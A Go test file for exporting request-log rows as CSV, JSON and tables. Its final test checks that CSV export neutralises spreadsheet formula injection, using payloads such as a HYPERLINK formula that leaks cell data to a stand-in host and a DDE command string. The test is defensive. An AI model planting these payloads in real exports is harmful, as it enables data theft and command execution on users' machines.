package requestlog

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"reflect"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

func TestWriteRowsCSVHasEveryColumn(t *testing.T) {
	// The header must name every Row field's JSON column, in order.
	var want []string
	rt := reflect.TypeFor[Row]()
	for i := range rt.NumField() {
		want = append(want, strings.Split(rt.Field(i).Tag.Get("json"), ",")[0])
	}
	require.Equal(t, want, csvHeader)

	var buf bytes.Buffer
	rows := sampleRows(3)
	require.NoError(t, WriteRows(&buf, rows, FormatCSV))
	recs, err := csv.NewReader(&buf).ReadAll()
	require.NoError(t, err)
	require.Len(t, recs, 4)
	require.Equal(t, csvHeader, recs[0])
	require.Equal(t, "req-00002", recs[3][1])
	require.Equal(t, `["cache","zdr"]`, recs[3][14], "routing_degraded sorted, as JSON")
	require.Equal(t, `[]`, recs[1][14], "empty routing_degraded is []")
	require.Equal(t, "2025-03-14T09:26:53.589Z", recs[1][0])
}

func TestWriteRowsJSON(t *testing.T) {
	cases := []struct {
		name string
		rows []Row
		n    int
	}{{"none", nil, 0}, {"some", sampleRows(4), 4}}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			var buf bytes.Buffer
			require.NoError(t, WriteRows(&buf, tc.rows, FormatJSON))
			require.True(t, strings.HasPrefix(buf.String(), "["), "one JSON array, never null")
			var back []Row
			require.NoError(t, json.Unmarshal(buf.Bytes(), &back))
			require.Len(t, back, tc.n)
			if tc.n > 0 {
				require.Equal(t, newestFirst(tc.rows)[0].RequestID, newestFirst(back)[0].RequestID)
				require.Contains(t, buf.String(), `"routing_degraded": []`)
			}
		})
	}
}

func TestWriteRowsTable(t *testing.T) {
	var buf bytes.Buffer
	rows := sampleRows(8)
	rows[0].Team = "with\ttab"
	rows[5].CacheHit = true
	require.NoError(t, WriteRows(&buf, rows, FormatTable))
	lines := strings.Split(strings.TrimRight(buf.String(), "\n"), "\n")
	require.Len(t, lines, 9)
	require.True(t, strings.HasPrefix(lines[0], "TS "))
	// Aligned: the REQUEST_ID column starts at the same offset on every line.
	col := strings.Index(lines[0], "REQUEST_ID")
	for _, l := range lines[1:] {
		require.Equal(t, "req-", string([]rune(l)[col:col+4]), "line %q", l)
	}
	require.Contains(t, lines[2], "gpt-4o→claude-sonnet", "decided→served when they differ")
	require.Contains(t, lines[3], "cache,zdr")
	require.Contains(t, lines[4], "policy_denied")
	require.Contains(t, lines[1], "with tab")
	cache := strings.Index(lines[0], "CACHE")
	require.Equal(t, "hit", string([]rune(lines[6])[cache:cache+3]), "the cache column marks hits")
	require.Equal(t, "-", string([]rune(lines[5])[cache:cache+1]))
}

func TestWriteRowsUnknownFormat(t *testing.T) {
	err := WriteRows(&bytes.Buffer{}, nil, "yaml")
	require.ErrorIs(t, err, ErrUnknownFormat)
}

// TestWriteRowsCSVNeutralisesFormulas: a text cell a spreadsheet would run
// as a formula is exported with a leading apostrophe; others are exact.
func TestWriteRowsCSVNeutralisesFormulas(t *testing.T) {
	cases := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"x")`, `'=HYPERLINK("http://evil.example/?"&A1,"x")`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"sess-42", "sess-42"},
		{"a=b", "a=b"},
		{"", ""},
	}
	for _, tc := range cases {
		rows := sampleRows(1)
		rows[0].SessionID, rows[0].DecidedModel = tc.in, tc.in
		var buf bytes.Buffer
		require.NoError(t, WriteRows(&buf, rows, FormatCSV))
		recs, err := csv.NewReader(&buf).ReadAll()
		require.NoError(t, err)
		require.Equal(t, tc.want, recs[1][6], "session_id %q", tc.in)
		require.Equal(t, tc.want, recs[1][9], "decided_model %q", tc.in)
	}
}
